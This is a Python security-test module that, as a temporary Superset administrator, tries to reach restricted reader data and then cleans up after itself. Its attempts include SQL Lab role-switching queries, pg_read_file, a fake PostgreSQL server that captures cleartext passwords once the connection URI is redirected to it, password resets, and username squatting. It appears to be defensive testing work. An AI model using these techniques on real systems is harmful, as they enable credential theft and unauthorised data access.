"""The administrator of Superset reads no value: what somebody with that account would try. Whatever is made is taken away again."""
import json
import os
import re
import secrets
import socket
import struct
import subprocess
import threading

from instance import Session
from questions import FREE, MARK, column, exact, xml

NAME = "vigie-essai-attaque"


class Trap(threading.Thread):
    """A server that says it is PostgreSQL, asks for passwords in the clear, and answers everything with nothing."""

    def __init__(self):
        super().__init__(daemon=True)
        self.listening, self.heard = socket.create_server(("127.0.0.1", 0)), set()
        self.port = self.listening.getsockname()[1]

    def run(self):
        while True:
            try:
                connection, _ = self.listening.accept()
            except OSError:
                return
            threading.Thread(target=self.serve, args=(connection,), daemon=True).start()

    def serve(self, connection):
        message = lambda kind, content: kind + struct.pack("!i", len(content) + 4) + content
        text = lambda value: value.encode() + b"\0"
        exactly = connection.makefile("rb").read
        try:
            while True:
                size, code = struct.unpack("!ii", exactly(8))
                rest = exactly(size - 8)
                if code in (80877103, 80877104):
                    connection.sendall(b"N")
                    continue
                break
            connection.sendall(message(b"R", struct.pack("!i", 3)))
            exactly(1)
            self.heard.add((rest.split(b"\0")[1].decode(), exactly(struct.unpack("!i", exactly(4))[0] - 4).rstrip(b"\0").decode()))
            ready, state = lambda: message(b"Z", state), b"I"
            connection.sendall(message(b"R", struct.pack("!i", 0)) + b"".join(message(b"S", text(name) + text(value)) for name, value in (
                ("server_version", "18.0"), ("client_encoding", "UTF8"), ("standard_conforming_strings", "on"), ("integer_datetimes", "on"), ("DateStyle", "ISO, MDY"), ("TimeZone", "UTC")))
                + message(b"K", struct.pack("!ii", 1, 1)) + ready())
            while True:
                kind = exactly(1)
                if not kind or kind == b"X":
                    return
                sql = exactly(struct.unpack("!i", exactly(4))[0] - 4).rstrip(b"\0").decode().strip().lower()
                if re.match("begin|start|rollback|commit|set|discard|reset", sql):
                    state = b"T" if re.match("begin|start", sql) else b"I" if re.match("rollback|commit", sql) else state
                    connection.sendall(message(b"C", text(sql.split()[0].upper())) + ready())
                    continue
                value = next((answer for word, answer in (("version()", "PostgreSQL 18.0"), ("standard_conforming", "on"), ("current_schema", "public"), ("isolation", "read committed"))
                              if word in sql), None)
                connection.sendall(message(b"T", struct.pack("!h", 1) + text("x") + struct.pack("!ihihih", 0, 0, 25, -1, -1, 0)) + (
                    message(b"D", struct.pack("!hi", 1, len(value)) + value.encode()) if value else b"") + message(b"C", text("SELECT")) + ready())
        except (OSError, struct.error, IndexError):
            pass
        finally:
            connection.close()


def inside(instance, code, **words):
    """In Superset's own process, as its command would."""
    done = subprocess.run([instance.home / "superset/venv/bin/python", "-c", "import os\nfrom superset.app import create_app\nwith create_app().app_context():\n"
                           + "\n".join("    " + line for line in code.splitlines())], capture_output=True, text=True,
                          env={**os.environ, **words, "VIGIE_SUPERSET_HOME": str(instance.home / "superset"), "SUPERSET_CONFIG_PATH": str(instance.home / "superset/superset_config.py")})
    if done.returncode != 0:
        raise SystemExit("Superset refused what its own command may do:\n" + done.stderr[-1500:])
    return done.stdout


def hired(instance):
    password = secrets.token_urlsafe(18)
    inside(instance, """from superset import security_manager as people
name, password = os.environ["M_NAME"], os.environ["M_PASSWORD"]
found = people.find_user(username=name)
people.reset_password(found.id, password) if found else people.add_user(name, "Essai", "Attaque", name + "@vigie.invalid", people.find_role("Admin"), password=password)""",
           M_NAME=NAME, M_PASSWORD=password)
    return password


def dismissed(instance):
    """Takes away what the attempts made, and gives readers back what was changed of theirs."""
    inside(instance, """from superset import db, security_manager as people
from superset.connectors.sqla.models import SqlaTable
from superset.models.core import Database
from superset.models.slice import Slice
from sqlalchemy import text
for pair in filter(None, os.environ["M_NUMBERS"].split("|")):
    name, number = pair.rsplit("=", 1)
    db.session.execute(text("UPDATE ab_user SET username = 'm4rk' WHERE username = :name AND id <> :number"), {"name": name, "number": number})
    db.session.execute(text("UPDATE ab_user SET username = :name WHERE id = :number AND username <> :name"), {"name": name, "number": number})
db.session.commit()
people_made = ("m4rk", os.environ["M_NAME"], *os.environ["M_TWINS"].split("|"))
for table in db.session.query(SqlaTable).filter(SqlaTable.table_name.in_(["m4rk", "mesure"])):
    db.session.delete(table)
for one in db.session.query(Slice).filter_by(slice_name="m4rk"):
    db.session.delete(one)
for base in db.session.query(Database).filter_by(database_name="m4rk"):
    db.session.delete(base)
base = db.session.query(Database).filter_by(database_name="Vigie").one()
base.sqlalchemy_uri = os.environ["M_URI"]
base.expose_in_sqllab, base.allow_dml, base.extra = os.environ["M_EXPOSED"] == "1", os.environ["M_DML"] == "1", os.environ["M_EXTRA"]
for pair in filter(None, os.environ["M_HASHES"].split("|")):
    name, kept = pair.split("=", 1)
    # By its exact name: with a twin in capitals, Superset finds neither.
    db.session.execute(text("UPDATE ab_user SET password = :kept WHERE username = :name"), {"kept": kept, "name": name})
db.session.commit()
for name in people_made:
    found = db.session.execute(text("SELECT id FROM ab_user WHERE username = :name"), {"name": name}).scalar()
    if found:
        # What the throw-away account wrote keeps its trace, without its author.
        for table, column in (("ab_user_role", "user_id"), ("ab_user_group", "user_id"), ("user_attribute", "user_id"), ("dashboard_user", "user_id"), ("slice_user", "user_id"),
                              ("sqlatable_user", "user_id"), ("tab_state", "user_id"), ("query", "user_id")):
            try:
                db.session.execute(text(f"DELETE FROM {table} WHERE {column} = :who"), {"who": found})
            except Exception:
                db.session.rollback()
        for table in ("dbs", "tables", "slices", "dashboards", "ab_user"):
            for column in ("created_by_fk", "changed_by_fk"):
                db.session.execute(text(f"UPDATE {table} SET {column} = 1 WHERE {column} = :who"), {"who": found})
        db.session.execute(text("UPDATE logs SET user_id = NULL WHERE user_id = :who"), {"who": found})
        db.session.execute(text("DELETE FROM ab_user WHERE id = :who"), {"who": found})
        db.session.commit()""", M_NAME=NAME, **instance.kept)


def remember(instance):
    exposed, dml, extra, uri = instance.metadata.execute("SELECT expose_in_sqllab, allow_dml, extra, sqlalchemy_uri FROM dbs WHERE database_name = 'Vigie'").fetchone()
    numbers = dict(instance.metadata.execute("SELECT username, id FROM ab_user"))
    hashes = dict(instance.metadata.execute("SELECT username, password FROM ab_user"))
    instance.kept = {"M_EXPOSED": str(int(exposed)), "M_DML": str(int(dml)), "M_EXTRA": extra or "{}", "M_URI": uri,
                     "M_TWINS": "|".join(one.name.upper() + "|" + one.name + " |" + one.name + "-m4rk" for one in instance.readers),
                     "M_NUMBERS": "|".join(f"{one.name}={numbers[one.name]}" for one in instance.readers),
                     "M_HASHES": "|".join(f"{one.name}={hashes[one.name]}" for one in instance.readers)}


def attack(instance, corpus, report):
    who, base = "administrator", instance.base
    dac = next((one for one in instance.readers if one.role == "dac"), instance.readers[0])
    cell = dac.own
    chart = corpus.shows(instance, cell)
    good, url = corpus.body(chart, cell), corpus.url(chart)
    told = lambda answer: cell.told.search(answer.text) and f"told {cell.num}/{cell.den}"
    theirs = exact(cell, dac.table)
    remember(instance)
    session = Session(base, NAME, hired(instance))
    if not session.logged:
        report.broken("the throw-away administrator cannot sign in")
        return
    try:
        number = instance.metadata.execute("SELECT id FROM dbs WHERE database_name = 'Vigie'").fetchone()[0]

        def sqllab(name, sql, database=number):
            answer = session.call("POST", "/api/v1/sqllab/execute/", json={"database_id": database, "sql": sql, "schema": "restitution", "client_id": secrets.token_hex(5), "runAsync": False})
            rows = answer.json().get("data") if answer.status == 200 else None
            report(who, "Superset", name, told(answer) or (rows and f"{len(rows)} rows"), answer.status)

        # --- SQL Lab ---------------------------------------------------------------------------------------------------------------------
        sqllab("SQL Lab", "SELECT 'm4rk'")
        sqllab("SQL Lab under a reader's role", f"SET ROLE \"{dac.role_sql}\"; {theirs}")
        sqllab("SQL Lab, set_config and query_to_xml", f"SELECT set_config('role', '{dac.role_sql}', false), {xml(theirs)}")
        sqllab("SQL Lab, the internal table", exact(cell))
        sqllab("SQL Lab, the view", f"SELECT numerateur, denominateur FROM restitution.valeur WHERE {cell.by_code()}")
        sqllab("SQL Lab, who has an account", "SELECT rolname FROM pg_roles")
        sqllab("SQL Lab, a file", "SELECT pg_read_file('postgresql.conf')")
        for name, path, body in (("the cost of a question", "/api/v1/sqllab/estimate/", {"database_id": number, "sql": "SELECT * FROM restitution.valeur", "schema": "restitution"}),
                                 ("a question checked", f"/api/v1/database/{number}/validate_sql/", {"sql": "SELECT 1/0", "schema": "restitution"})):
            answer = session.call("POST", path, json=body)
            report(who, "Superset", "SQL Lab, " + name, answer.status == 200 and "Total cost" in answer.text + "" and "answered", answer.status)
        before = session.call("PUT", f"/api/v1/database/{number}", json={"expose_in_sqllab": True, "allow_dml": True})
        report.note(who, "SQL Lab let open by the administrator", "what it then answers is tried next", before.status == 200)
        sqllab("SQL Lab, let open by the administrator", "SELECT 'm4rk'")
        sqllab("SQL Lab, let open, under a reader's role", f"SET ROLE \"{dac.role_sql}\"; {theirs}")
        session.call("PUT", f"/api/v1/database/{number}", json={"extra": json.dumps({"engine_params": {"connect_args": {"options": f"-c role={dac.role_sql}"}}})})
        sqllab("SQL Lab, the role in the settings of the connection", theirs)
        answer = session.ask(good, url, timeout=20)
        report(who, "Superset", "a dashboard's question, the role in the settings of the connection", told(answer), answer.status)
        session.call("PUT", f"/api/v1/database/{number}", json={"extra": instance.kept["M_EXTRA"], "expose_in_sqllab": instance.kept["M_EXPOSED"] == "1",
                                                               "allow_dml": instance.kept["M_DML"] == "1"})
        # --- the data sets ---------------------------------------------------------------------------------------------------------------
        dac.session.ask(good, url, timeout=20)
        answer = session.ask(good, url, timeout=20)
        report(who, "Superset", "a dashboard's question, after a reader asked it", told(answer) or (answer.data() and f"{len(answer.data())} rows"), answer.status)
        answer = session.ask({**good, "force": True}, url, timeout=20)
        report(who, "Superset", "a dashboard's question, forced", told(answer) or (answer.data() and f"{len(answer.data())} rows"), answer.status)
        for name in ("valeur", "entonnoir", "carte"):
            if name in instance.datasets:
                answer = session.ask({"datasource": {"id": instance.datasets[name], "type": "table"}, "queries": [{"columns": ["publication"], "row_limit": 5}]}, timeout=20)
                report(who, "Superset", f"the data set {name}", bool(answer.data()) and "rows", answer.status)
        body = {"datasource": {"id": instance.datasets["valeur"], "type": "table"}, "queries": [{"columns": [column(xml(theirs))], "row_limit": 1, "extras": {
            "where": f"set_config('role','{dac.role_sql}',false) is not null"}}]}
        answer = session.ask(body)
        report(who, "Superset", "query_to_xml under a reader's role", told(answer) or answer.data() and "rows", answer.status)
        answer = session.call("POST", f"/datasource/samples?force=true&datasource_type=table&datasource_id={instance.datasets['valeur']}", json={"filters": []})
        report(who, "Superset", "samples", answer.status == 200 and bool(answer.json().get("result", {}).get("data")) and "rows", answer.status)
        answer = session.call("POST", f"/api/v1/datasource/table/{instance.datasets['valeur']}/validate_expression/", json={"expression": FREE, "expression_type": "column"})
        report.note(who, "an expression checked", "it reads nothing", answer.status == 200)
        for name, what in (("on the internal table", {"schema": "mart", "table_name": "mesure"}), ("of SQL", {"table_name": MARK, "sql": theirs}),
                           ("of SQL under a role", {"table_name": MARK, "sql": f"SELECT {xml(theirs)} AS numerateur FROM (SELECT set_config('role', '{dac.role_sql}', false) OFFSET 0) s"}),
                           ("on the rights", {"schema": "registre", "table_name": "habilitation"})):
            made = session.call("POST", "/api/v1/dataset/", json={"database": number, **what})
            found = None
            if made.status == 201:
                new = made.json()["id"]
                answer = session.ask({"datasource": {"id": new, "type": "table"}, "queries": [{"columns": ["numerateur"] if "rights" not in name else ["role_sql"], "row_limit": 5}]}, timeout=20)
                found = told(answer) or answer.data() and f"{len(answer.data())} rows"
                session.call("DELETE", f"/api/v1/dataset/{new}")
            report(who, "Superset", f"a data set {name}", found, made.status)
        # --- the connection --------------------------------------------------------------------------------------------------------------
        uri = instance.metadata.execute("SELECT sqlalchemy_uri FROM dbs WHERE id = ?", (number,)).fetchone()[0]
        other = uri.split("?")[0]
        made = session.call("POST", "/api/v1/database/", json={"database_name": MARK, "sqlalchemy_uri": other, "expose_in_sqllab": True, "extra": json.dumps(
            {"engine_params": {"connect_args": {"options": f"-c role={dac.role_sql}"}}})})
        if made.status == 201:
            sqllab("a second connection with the first one's secret", theirs, made.json()["id"])
        else:
            report(who, "Superset", "a second connection with the first one's secret", None, made.status)
        answer = session.call("POST", "/api/v1/database/test_connection/", json={"database_name": "Vigie", "sqlalchemy_uri": uri, "extra": "{}"})
        report.note(who, "the connection tried again", "opens and reads nothing", answer.status == 200)
        for where in (f"/api/v1/database/{number}/connection", f"/api/v1/database/{number}", f"/api/v1/database/export/?q=!({number})"):
            answer = session.call("GET", where)
            known = [one.secret["password"] for one in instance.readers if one.secret.get("password")]
            report(who, "Superset", "the secret of the connection, " + where.split("?")[0], any(word in answer.text or word.encode() in answer.content for word in known) and "told", answer.status)
        # The connection is led elsewhere, and readers' secrets follow it there.
        trap = Trap()
        trap.start()
        led = session.call("PUT", f"/api/v1/database/{number}", timeout=30, json={"sqlalchemy_uri": re.sub(r"@[^/]*/", f"@127.0.0.1:{trap.port}/", uri)})
        dac.session.ask({**good, "force": True}, url, timeout=20)
        report(who, "Superset", "the connection led to a server of one's own", any(word == dac.secret.get("password") for _, word in trap.heard) and "the reader's password came", led.status)
        session.call("PUT", f"/api/v1/database/{number}", timeout=30, json={"sqlalchemy_uri": uri})
        trap.listening.close()
        dac_asked = dac.session.ask(good, url, timeout=20)
        answer = session.call("GET", f"/api/v1/chart/data/{next((one.get('cache_key') for one in dac_asked.results()), None)}")
        report(who, "Superset", "a reader's answer by its key", told(answer), answer.status)
        # --- people ----------------------------------------------------------------------------------------------------------------------
        roles = [number for (number,) in instance.metadata.execute("SELECT r.role_id FROM ab_user_role r JOIN ab_user u ON u.id = r.user_id WHERE u.username = ?", (dac.name,))]
        user = instance.metadata.execute("SELECT id FROM ab_user WHERE username = ?", (dac.name,)).fetchone()[0]

        def reads(name, word):
            """Signs in and asks for the figure."""
            other = Session(base, name, word)
            return other.logged and told(other.ask({**good, "force": True}, url, timeout=20))

        def made(name, word):
            return session.call("POST", "/api/v1/security/users/", json={"username": name, "first_name": MARK, "last_name": MARK, "email": secrets.token_hex(4) + "@vigie.invalid",
                                                                         "active": True, "roles": roles, "groups": [], "password": word})

        # A reader's password, reset: whoever may do that may read as the reader.
        word = secrets.token_urlsafe(18) + "aA1!"
        answer = session.call("PUT", f"/api/v1/security/users/{user}", json={"groups": [], "password": word})
        report(who, "Superset", "a reader's password reset, then its figures", reads(dac.name, word), answer.status)
        # The same request of an ordinary account is answered: a refusal of everything would prove nothing.
        gamma = instance.metadata.execute("SELECT id FROM ab_role WHERE name = 'Gamma'").fetchone()[0]
        plain = session.call("POST", "/api/v1/security/users/", json={"username": MARK + "-plain", "first_name": MARK, "last_name": MARK, "email": MARK + "-plain@vigie.invalid",
                                                                      "active": True, "roles": [gamma], "groups": [], "password": word})
        number = plain.json().get("id") if plain.status in (200, 201) else None
        if number is None or session.call("PUT", f"/api/v1/security/users/{number}", json={"groups": [], "password": word + "1"}).status != 200:
            report.broken(f"the administrator cannot reset an ordinary password: {plain.status}")
        if number is not None:
            session.call("DELETE", f"/api/v1/security/users/{number}")
        # The roles that make it a reader are called something else meanwhile.
        named = [(one, instance.metadata.execute("SELECT name FROM ab_role WHERE id = ?", (one,)).fetchone()[0]) for one in roles]
        renamed = [session.call("PUT", f"/api/v1/security/roles/{one}", json={"name": "x" + called}).status for one, called in named]
        answer = session.call("PUT", f"/api/v1/security/users/{user}", json={"groups": [], "password": word})
        for one, called in named:
            session.call("PUT", f"/api/v1/security/roles/{one}", json={"name": called})
        report(who, "Superset", "a reader's roles renamed, its password reset, then its figures", 200 in renamed or reads(dac.name, word), answer.status)
        # A reader's name, taken: its account gives the name up, another account takes it.
        answer = session.call("PUT", f"/api/v1/security/users/{user}", json={"username": dac.name + "-m4rk"})
        found = answer.status == 200 and made(dac.name, word).status in (200, 201) and reads(dac.name, word)
        report(who, "Superset", "a reader's name given to another account", found, answer.status)
        if answer.status == 200:
            twin = instance.metadata.execute("SELECT id FROM ab_user WHERE username = ?", (dac.name,)).fetchone()
            if twin:
                session.call("DELETE", f"/api/v1/security/users/{twin[0]}")
            session.call("PUT", f"/api/v1/security/users/{user}", json={"username": dac.name})
        for name, twin in (("a reader's role", MARK), ("a reader's role and its name in capitals", dac.name.upper()), ("a reader's role and its name with a space", dac.name + " ")):
            answer = made(twin, word)
            report(who, "Superset", f"a user made with {name}", answer.status in (200, 201) and reads(twin, word), answer.status)
            if answer.status in (200, 201):
                session.call("DELETE", f"/api/v1/security/users/{answer.json().get('id')}")
        # The administrator takes the role itself, beside its own and then instead of it.
        me = session.call("GET", "/api/v1/me/").json()["result"]["id"]
        admin = [number for (number,) in instance.metadata.execute("SELECT id FROM ab_role WHERE name = 'Admin'")]
        for name, many in (("too", admin + roles), ("only", roles)):
            taken = session.call("PUT", f"/api/v1/security/users/{me}", json={"roles": many})
            answer = session.ask({**good, "force": True}, url, timeout=20)
            report(who, "Superset", f"the administrator with a reader's role {name}", told(answer), taken.status)
    finally:
        dismissed(instance)
    # --- the same at PostgreSQL: what is opened for the administrator, for the service and for nobody -------------------------------------------
    import psycopg2
    for name in ("admin", "vigie-service", ""):
        secret = instance.secrets_of[name]
        for what, sql in (("the internal table", exact(cell)), ("the table of a reader", theirs), ("the view", f"SELECT numerateur, denominateur FROM restitution.valeur WHERE {cell.by_code()}"),
                          ("a reader's role", f"SET ROLE \"{dac.role_sql}\"; {theirs}"), ("who has an account", "SELECT string_agg(rolname, ' ') FROM pg_roles")):
            found = None
            try:
                connection = instance.connect(secret)
                try:
                    with connection.cursor() as cursor:
                        cursor.execute(sql)
                        text = str(cursor.fetchall())
                        found = cell.told.search(text) and f"told {cell.num}/{cell.den}" or (what.startswith("who") and instance.names(None).search(text) and "told names")
                finally:
                    connection.close()
            except psycopg2.Error:
                pass
            report(who, "PostgreSQL", f"what is opened for {name or 'nobody'}: {what}", found)


def machine(instance, report):
    """Another user of the machine: what the files let them read."""
    for name in ("secret", "lake", "postgres/mot-de-passe", "postgres/donnees", "superset/superset.db", "superset/cle-secrete", "superset/cache", "superset/superset.log", "superset/superset_config.py", "runs",
                 "reference", "staging"):
        path = instance.home / name
        if path.exists():
            mode = path.stat().st_mode & 0o077
            closed_above = any(parent.stat().st_mode & 0o011 == 0 for parent in path.parents if instance.home in (parent, *parent.parents))
            report("machine", "files", name, mode and not closed_above and name != "superset/superset_config.py" and f"{path.stat().st_mode & 0o777:04o}")
